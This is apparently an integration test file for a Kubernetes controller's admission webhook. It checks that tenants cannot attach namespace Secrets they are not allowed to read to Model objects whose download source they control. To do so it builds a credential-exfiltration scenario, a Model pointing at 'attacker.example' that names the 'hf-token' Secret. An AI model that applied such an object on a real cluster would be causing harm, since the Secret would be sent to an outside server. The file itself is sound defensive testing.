"""A tenant cannot lend its namespace's Secrets to a source it chose (issue 14, M3).

The attack: ``dev`` holds ``modelcache-edit`` in its namespace (create
Models) and no read of Secrets. It writes a Model whose source is its own
server (``https://attacker.example/...``) and whose ``authSecretRef``
names the namespace's ``hf-token``; the publish Job would send that Secret
there as a bearer token. The manager's webhook (``controller.delivery``,
registered by ``Delivery`` on the real kube-apiserver, as in
test_delivery_webhook.py) asks a SubjectAccessReview for the requesting
user and the API server refuses the Model with a message naming the
Secret: it is never stored, so no Job can run for it. ``reader``, allowed
``get`` on ``hf-token`` only, may name it but not ``db-password``, nor swap
it in by an update; a Model without Secret references never reaches the
webhook (matchConditions).

The reviews go with the controller's own ServiceAccount token and the RBAC
of daemonset/controller-rbac.yaml, through the loopback proxy of
test_catalog_fail_closed.py: a review that fails (500, garbage, strings,
hang past the timeout, a dead API server) refuses the Model (503), and the
same request is admitted once the API server answers again (nothing
cached). Tenants call with real bound ServiceAccount tokens.
"""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from controller.delivery import secretaccess
from kube import client as k
from tests import kubeenv
from tests.integration import test_catalog_api as api
from tests.integration import test_delivery_webhook as dw
from tests.integration.test_catalog_fail_closed import ApiProxy
from tests.integration.test_tenant_rbac import ROLE_BINDINGS, bind
from tests.integration.test_webhook_fail_closed import controller_client

kube = kubeenv.kube

SECRETS = k.Resource("", "v1", "secrets", True, "Secret")
ROLES = k.Resource("rbac.authorization.k8s.io", "v1", "roles", True, "Role")
ATTACKER = "https://attacker.example/m.tar"


def model(name: str, secret: str | None, url: str = ATTACKER) -> dict[str, Any]:
    http: dict[str, Any] = {"url": url}
    if secret:
        http["authSecretRef"] = {"name": secret}
    return {"apiVersion": "modelcache.io/v1alpha1", "kind": "Model", "metadata": {"name": name},
            "spec": {"source": {"http": http}}}


class Tenants:
    def __init__(self, env: dw.Env, ns: str, dev: k.Kube, reader: k.Kube,
                 proxy: ApiProxy) -> None:
        self.env, self.ns, self.dev, self.reader, self.proxy = env, ns, dev, reader, proxy

    def model_reviews(self) -> float:
        """Model admissions the webhook handled so far (all results)."""
        return sum(self.env.metrics.admissions.labels("Model", op, r)._value.get()
                   for op in ("CREATE", "UPDATE") for r in ("allowed", "denied", "error"))

    def stored(self, name: str) -> dict[str, Any] | None:
        try:
            return self.env.client.get(k.MODELS, name, self.ns)
        except k.NotFound:
            return None


@pytest.fixture(scope="module")
def tenants(kube: kubeenv.KubeEnv) -> Iterator[Tenants]:
    gen = dw.running_env(kube)
    env = next(gen)
    proxy = ApiProxy(kube.server, kube.pki.ca)
    ctl: k.Kube | None = None
    try:
        api.apply_controller_rbac(kube)
        kube.kubectl("apply", "-f", os.path.join(kubeenv.REPO_ROOT, "daemonset",
                                                 "tenant-rbac.yaml"))
        ns = env.namespace("sar")
        for name in ("hf-token", "db-password"):
            env.client.create(SECRETS, {"apiVersion": "v1", "kind": "Secret",
                                        "metadata": {"name": name},
                                        "stringData": {"token": "s3cr3t"}}, ns)
        bind(env.client, ns, "dev", "modelcache-edit")
        bind(env.client, ns, "reader", "modelcache-edit")
        env.client.create(ROLES, {
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
            "metadata": {"name": "read-hf-token"},
            "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"],
                       "resourceNames": ["hf-token"]}]}, ns)
        env.client.create(ROLE_BINDINGS, {
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
            "metadata": {"name": "reader-hf-token"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role",
                        "name": "read-hf-token"},
            "subjects": [{"kind": "ServiceAccount", "name": "reader", "namespace": ns}]}, ns)
        # the reviews go with the controller's own token and RBAC, through the proxy
        ctl = controller_client(kube, proxy.url)
        env.delivery.admission.secrets = secretaccess.Checker(ctl)
        dev = k.Kube.from_config(kube.serviceaccount_kubeconfig("dev", ns))
        reader = k.Kube.from_config(kube.serviceaccount_kubeconfig("reader", ns))
        t = Tenants(env, ns, dev, reader, proxy)
        # the API server picks the new configuration up within a moment
        dw.wait_for(lambda: _probe(t), 30, what="the Model webhook in the API server's path")
        yield t
        dev.close()
        reader.close()
    finally:
        if ctl is not None:
            ctl.close()
        proxy.stop()
        next(gen, None)


def _probe(t: Tenants) -> bool:
    try:
        t.dev.create(k.MODELS, model("probe", "hf-token"), t.ns)
    except k.ApiError as e:
        return e.status == 403 and "hf-token" in str(e)
    t.env.client.delete(k.MODELS, "probe", t.ns)
    return False


def assert_refused(e: pytest.ExceptionInfo[k.ApiError], code: int, *words: str) -> None:
    assert e.value.status == code, e.value
    text = str(e.value)
    assert "admission webhook" in text and "models.modelcache.io" in text, text
    for w in words:
        assert w in text, text
    assert "s3cr3t" not in text


def test_tenant_cannot_lend_a_secret_it_cannot_read(tenants: Tenants) -> None:
    before = tenants.model_reviews()
    with pytest.raises(k.ApiError) as e:
        tenants.dev.create(k.MODELS, model("exfil", "hf-token"), tenants.ns)
    assert_refused(e, 403, 'may not get Secret "hf-token"', f'namespace "{tenants.ns}"',
                   "spec.source.http.authSecretRef", f"system:serviceaccount:{tenants.ns}:dev")
    assert tenants.stored("exfil") is None  # never stored: no publish Job can exist for it
    assert tenants.model_reviews() == before + 1
    # the same tenant's Model without a Secret reference is admitted without a review:
    # the API server does not even call the webhook for it
    tenants.dev.create(k.MODELS, model("plain", None), tenants.ns)
    assert tenants.stored("plain") is not None
    assert tenants.model_reviews() == before + 1


def test_a_user_who_can_read_the_secret_may_name_it(tenants: Tenants) -> None:
    tenants.reader.create(k.MODELS, model("allowed", "hf-token"), tenants.ns)
    stored = tenants.stored("allowed")
    assert stored is not None
    assert stored["spec"]["source"]["http"]["authSecretRef"]["name"] == "hf-token"
    # get on one Secret by name is not get on the others
    with pytest.raises(k.ApiError) as e:
        tenants.reader.create(k.MODELS, model("other", "db-password"), tenants.ns)
    assert_refused(e, 403, 'may not get Secret "db-password"')
    assert tenants.stored("other") is None


def test_update_swapping_in_an_unreadable_secret_is_refused(tenants: Tenants) -> None:
    tenants.reader.create(k.MODELS, model("swap", "hf-token"), tenants.ns)
    with pytest.raises(k.ApiError) as e:
        tenants.reader.patch(k.MODELS, "swap", {"spec": {"source": {"http": {
            "authSecretRef": {"name": "db-password"}}}}}, tenants.ns)
    assert_refused(e, 403, 'may not get Secret "db-password"')
    # another tenant sending the Model's Secret to its own server: refused the same way
    with pytest.raises(k.ApiError) as e:
        tenants.dev.patch(k.MODELS, "swap", {"spec": {"source": {"http": {
            "url": "https://elsewhere.example/m.tar"}}}}, tenants.ns)
    assert_refused(e, 403, 'may not get Secret "hf-token"')
    stored = tenants.stored("swap")
    assert stored is not None and stored["spec"]["source"]["http"] == {
        "url": ATTACKER, "archive": "Auto", "authSecretRef": {"name": "hf-token"}}
    # an update that keeps the source needs no review, whoever makes it
    before = tenants.model_reviews()
    tenants.dev.patch(k.MODELS, "swap", {"metadata": {"labels": {"team": "a"}}}, tenants.ns)
    assert tenants.model_reviews() == before


@pytest.mark.parametrize("mode", ["500", "garbage", "strings", "hang", "dead"])
def test_failed_review_refuses_the_model(tenants: Tenants, mode: str) -> None:
    name = f"fail-{mode}"
    proxy = tenants.proxy
    proxy.hang = secretaccess.REVIEW_TIMEOUT + 1.0
    if mode == "dead":
        proxy.stop()  # nothing listens on the API server's address now
    else:
        proxy.mode = mode
    try:
        with pytest.raises(k.ApiError) as e:
            tenants.reader.create(k.MODELS, model(name, "hf-token"), tenants.ns)
        assert_refused(e, 503, 'cannot check access to Secret "hf-token" now', "retry")
        assert tenants.stored(name) is None
    finally:
        proxy.mode = "ok"
        if proxy.server is None:
            proxy.start()
    if mode == "hang":  # let the hung answer finish before the next request
        threading.Event().wait(1.0)
    tenants.reader.create(k.MODELS, model(name, "hf-token"), tenants.ns)
    assert tenants.stored(name) is not None
